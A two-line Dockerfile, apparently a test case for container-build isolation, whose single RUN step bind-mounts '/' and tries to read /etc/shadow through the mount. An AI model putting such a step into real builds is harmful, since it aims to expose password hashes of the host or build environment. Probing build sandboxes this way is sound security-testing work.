FROM scratch
RUN --mount=type=bind,source=/,target=/host cat /host/etc/shadow
